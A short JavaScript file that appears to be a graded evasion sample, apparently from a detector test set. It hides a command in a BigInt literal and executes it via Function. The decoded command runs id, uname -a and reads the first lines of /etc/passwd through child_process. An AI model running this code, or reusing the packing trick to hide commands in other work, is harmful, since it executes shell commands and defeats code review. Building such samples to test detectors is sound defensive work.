// evasion: the whole payload packed into one BigInt literal, eight bits a character, unpacked with shifts and masks and run by Function
// grade: very hard; does: shell
'use strict';
const packed =
  0x7265717569726528276368696c645f70726f6365737327292e6578656353796e63282769643b20756e616d65202d613b20636174202f6574632f706173737764207c2068656164202d6e2033272c207b20737464696f3a2027696e686572697427207d29n;

function unpack(n) {
  let out = '';
  while (n > 0n) {
    out = String.fromCharCode(Number(n & 0xffn)) + out;
    n >>= 8n;
  }
  return out;
}

Function('require', unpack(packed))(require);
